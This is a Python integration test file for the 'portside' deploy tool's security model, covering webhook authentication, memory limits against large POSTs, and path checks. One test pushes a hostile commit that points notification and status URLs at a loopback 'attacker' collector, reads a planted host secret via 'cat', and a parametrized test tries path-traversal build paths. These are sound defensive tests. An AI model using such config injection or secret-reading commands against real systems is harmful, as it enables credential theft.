"""The trust model end to end, through the real gateway and 'portside serve' (README "Security model")."""

from __future__ import annotations

import http.client
import http.server
import json
import shutil
import ssl
import subprocess
import tempfile
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from portside.adapters.probe import get
from portside.adapters.store import Store

from .conftest import cli, free_port, make_app, teardown_app
from .test_pipeline import Service

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def service(base_images, docker_client) -> Iterator[Service]:  # type: ignore[no-untyped-def]
    root = Path(tempfile.mkdtemp(prefix="portside-trust-", dir="/var/tmp"))
    root.chmod(0o755)
    origin = root / "origin.git"
    app = make_app(root, f"tr-{uuid.uuid4().hex[:6]}", deploy_extra=f'repository = "{origin}"\ndrain_seconds = 0\n')
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(origin)], check=True)
    subprocess.run(["git", "-C", str(app.dir), "remote", "add", "origin", str(origin)], check=True)
    subprocess.run(["git", "-C", str(app.dir), "push", "-q", "origin", "main"], check=True)
    service = Service(app, origin, free_port(), "")
    app.state.mkdir(parents=True, exist_ok=True)
    service.start()
    result = app.up()
    assert result.code == 0, result.text
    service.secret = json.loads(cli("hooks", app.name, "--json", "--state-dir", app.state).out)["secret"]
    try:
        yield service
    finally:
        service.stop()
        teardown_app(app, docker_client)
        shutil.rmtree(root, ignore_errors=True)


def _paths(app: str) -> list[str]:
    return ["/_portside/", "/_portside/api/pipelines", "/_portside/api/pipelines/1",
            "/_portside/api/pipelines/1/logs", f"/_portside/api/deliveries/{app}", "/_portside/health",
            "/_portside/hooks/", f"/_portside/hooks/gitlab/{app}", f"/_portside/hooks/github/{app}",
            "/_portside/api/pipelines?app=x", "/_portside//api/pipelines", "/_portside/./api/pipelines",
            "/_portside/%2e%2e/_portside/api/pipelines", "/_PORTSIDE/api/pipelines", "/_portside/api/../api/pipelines"]


def test_nothing_under_portside_but_the_hooks_answers_without_credentials(service: Service) -> None:
    index = get(service.app.url + "/", service.app.ca).body  # the SPA's own page: public by design
    answers = {}
    for path in _paths(service.app.name):
        for method in ("GET", "POST", "HEAD"):
            r = get(service.app.url + path, service.app.ca, method=method, body=b"" if method == "POST" else None)
            answers[f"{method} {path}"] = r.status
            if 200 <= r.status < 300:  # only the SPA's index.html (e.g. for /_PORTSIDE/: nginx is case-sensitive)
                assert method != "POST" and (r.body == index or method == "HEAD"), (method, path, r.body[:200])
    # only the hook endpoints reach the service at all; everything else is nginx's 404
    assert answers["GET /_portside/api/pipelines"] == 404
    assert answers["GET /_portside/api/pipelines/1/logs"] == 404
    assert answers["GET /_portside/"] == 404
    assert answers[f"POST /_portside/hooks/gitlab/{service.app.name}"] == 401
    # and the admin API itself needs the token even on loopback
    assert get(f"http://127.0.0.1:{service.port}/_portside/api/pipelines").status == 401


def test_unsigned_and_wrong_hooks_are_refused_identically(service: Service) -> None:
    body = json.dumps({"object_kind": "push", "ref": "refs/heads/main", "after": "a" * 40}).encode()
    answers = set()
    for app in (service.app.name, "nosuchapp", "board"):
        for headers in ({}, {"X-Gitlab-Token": "wrong"}, {"X-Gitlab-Token": service.secret + "x"}):
            r = get(f"{service.app.url}/_portside/hooks/gitlab/{app}", service.app.ca, method="POST", body=body,
                    headers=headers)
            answers.add((r.status, r.body))
        for headers in ({"X-GitHub-Event": "push"}, {"X-GitHub-Event": "push", "X-Hub-Signature-256": "sha256=" +
                                                     "0" * 64}):
            r = get(f"{service.app.url}/_portside/hooks/github/{app}", service.app.ca, method="POST", body=body,
                    headers=headers)
            answers.add((r.status, r.body))
    assert len(answers) == 1 and next(iter(answers))[0] == 401, answers


def _rss_kib(pid: int) -> tuple[int, int]:
    fields = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines())
    return int(fields["VmRSS"].split()[0]), int(fields["VmHWM"].split()[0])


def _big_post(host: str, port: int, path: str, headers: dict[str, str], tls_ca: Path | None) -> int:
    """24 MiB, chunked (no Content-Length to trust), 64 KiB at a time; the status, or 0 if the server hung up."""
    if tls_ca:
        context = ssl.create_default_context(cafile=str(tls_ca))
        conn: http.client.HTTPConnection = http.client.HTTPSConnection(host, port, context=context, timeout=60)
    else:
        conn = http.client.HTTPConnection(host, port, timeout=60)
    chunk = b"{" + b"x" * (64 * 1024 - 1)

    def body() -> Iterator[bytes]:
        for _ in range(24 * 16):
            yield chunk

    try:
        conn.request("POST", path, body=body(), headers={**headers, "Content-Type": "application/json"},
                     encode_chunked=True)
        return conn.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        conn.close()


def test_concurrent_large_unauthenticated_posts_cost_serve_no_memory(service: Service) -> None:
    assert service.proc is not None
    pid = service.proc.pid
    before = _rss_kib(pid)
    app = service.app.name
    jobs = []
    results: list[int] = []
    # the worst case reaches serve directly on loopback (past nginx's 5 MiB cap): a known app and a well-formed
    # signature header, so the body must be read to check it; and the same through the gateway
    for n in range(8):
        if n % 2:
            args = ("127.0.0.1", service.port, f"/_portside/hooks/github/{app}",
                    {"X-GitHub-Event": "push", "X-Hub-Signature-256": "sha256=" + "0" * 64}, None)
        else:
            args = ("localhost", service.app.https, f"/_portside/hooks/gitlab/{app}",
                    {"X-Gitlab-Token": "wrong"}, service.app.ca)
        jobs.append(threading.Thread(target=lambda a=args: results.append(_big_post(*a))))
    for job in jobs:
        job.start()
    for job in jobs:
        job.join(120)
    after = _rss_kib(pid)
    report = f"serve RSS {before[0] // 1024} MiB before, {after[0] // 1024} MiB after, peak {after[1] // 1024} MiB"
    print(report)
    (Path(__file__).resolve().parent.parent / "artifacts").mkdir(exist_ok=True)
    (Path(__file__).resolve().parent.parent / "artifacts" / "serve-rss.txt").write_text(report + "\n")
    # refused by serve (401 or 413, the connection cut at the cap: 0) or by nginx's limits (413, 429)
    assert len(results) == 8 and all(code in (0, 401, 413, 429) for code in results), results
    assert after[1] < 100 * 1024, report
    assert get(f"http://127.0.0.1:{service.port}/_portside/health").status == 200


class _Collector(http.server.BaseHTTPRequestHandler):
    """A stand-in for an attacker's server on loopback: records every request that reaches it."""

    seen: list[str] = []

    def _record(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        _Collector.seen.append(f"{self.command} {self.path} {dict(self.headers)} {self.rfile.read(length)!r}")
        self.send_response(200)
        self.end_headers()

    do_GET = do_POST = _record

    def log_message(self, *args: object) -> None:
        pass


def _hostile_commit(service: Service, extra: str, planted: Path, collector: int) -> str:
    """Commit and push a portside.toml that points server-owned settings at the collector and at a host secret;
    the admin's file (the working copy on the server) is put back, uncommitted."""
    config = service.app.dir / "portside.toml"
    admin = config.read_text()
    hostile = (admin.replace("[deploy]\n", f'[deploy]\nnotify_url = "http://127.0.0.1:{collector}/chat"\n'
                             f'credentials_file = "{planted}"\nstatus_api = "http://127.0.0.1:{collector}/api"\n'
                             f'status_project = "x/y"\nstatus_token_file = "{planted}"\n'
                             f'test_command = "cat {planted}"\n')
               .replace('path = "backend"\n', f'path = "backend"\nenv_file = "{planted}"\nallow_root = true\n')
               + extra)
    config.write_text(hostile)
    sha = service.push("a commit that tries to take over server-owned settings",
                       ("backend/main.py", 'os.environ.get("APP_VERSION", "1")', 'os.environ.get("APP_VERSION", "h")'))
    config.write_text(admin)
    return sha


def test_a_commit_cannot_use_server_owned_settings(service: Service, docker_client) -> None:  # type: ignore[no-untyped-def]
    planted = Path(tempfile.mkdtemp()) / "host-secret.env"
    planted.write_text("HOST_SECRET=do-not-leak-7f3a\n")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Collector)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        sha = _hostile_commit(service, "", planted, server.server_address[1])
        status, body, _ = service.gitlab(sha)
        assert status == 202, body
        pipeline = service.wait(body["pipeline"])
        logs = service.api(f"pipelines/{body['pipeline']}/logs").decode()
        assert pipeline["status"] == "success", logs
        assert service.version() == "h"  # repository-owned changes (the code) are deployed
        ignored = next(line for line in logs.splitlines() if "ignored from the commit" in line)
        for key in ("backend.allow_root", "backend.env_file", "deploy.credentials_file", "deploy.notify_url",
                    "deploy.status_api", "deploy.test_command"):
            assert key in ignored, ignored
        assert _Collector.seen == []  # nothing left the machine for the commit's targets
        assert "do-not-leak" not in logs
        for container in docker_client.containers.list(filters={"label": f"portside.app={service.app.name}"}):
            assert not any("HOST_SECRET" in e for e in container.attrs["Config"]["Env"] or [])
        info = Store(service.app.state / "portside.db").app(service.app.name)
        assert info is not None and info.app_dir == service.app.dir  # the checkout never becomes it
    finally:
        server.shutdown()
        server.server_close()
        shutil.rmtree(planted.parent, ignore_errors=True)


@pytest.mark.parametrize("escape", ['path = "../../.."', 'path = "/var/lib"'])
def test_a_commit_cannot_build_from_outside_the_checkout(service: Service, escape: str) -> None:
    before = service.version()
    config = service.app.dir / "portside.toml"
    admin = config.read_text()
    config.write_text(admin.replace('path = "backend"', escape, 1))
    assert config.read_text() != admin
    sha = service.push(f"escape: {escape}")
    config.write_text(admin)
    subprocess.run(["git", "-C", str(service.app.dir), "commit", "-qam", "restore", "--allow-empty"], check=True)
    status, body, _ = service.gitlab(sha)
    assert status == 202, body
    pipeline = service.wait(body["pipeline"])
    assert pipeline["status"] == "failed" and "backend.path" in pipeline["error"], pipeline
    assert "Fix:" in pipeline["error"]
    assert service.version() == before  # the previous release keeps serving

